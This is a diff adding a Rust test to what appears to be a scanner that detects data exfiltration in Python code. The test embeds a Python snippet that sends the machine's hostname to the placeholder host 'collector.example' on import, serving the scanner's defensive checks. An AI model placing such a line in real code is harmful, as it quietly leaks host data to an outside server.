@@ -190,3 +190,27 @@ fn reading_credentials_and_sending_in_one_function_is_exfiltration() {
     );
 }
 
+#[test]
+fn a_function_called_at_module_level_runs_on_import_but_not_under_a_main_guard() {
+    let body = "import socket, requests\n\
+                def ping():\n    \
+                requests.get('https://collector.example/p', params={'h': socket.gethostname()})\n";
+    let called = format!("{body}ping()\n");
+    let rules: Vec<String> = findings_for(&called).into_iter().map(|f| f.0).collect();
+    assert!(
+        rules.iter().any(|r| r == "correlate/host-data-and-network"),
+        "{rules:?}"
+    );
+    let guarded = format!("{body}if __name__ == '__main__':\n    ping()\n");
+    let rules: Vec<String> = findings_for(&guarded).into_iter().map(|f| f.0).collect();
+    assert!(
+        !rules.iter().any(|r| r == "correlate/host-data-and-network"),
+        "{rules:?}"
+    );
+    assert!(
+        rules
+            .iter()
+            .any(|r| r == "correlate/function-host-data-to-network"),
+        "{rules:?}"
+    );
+}
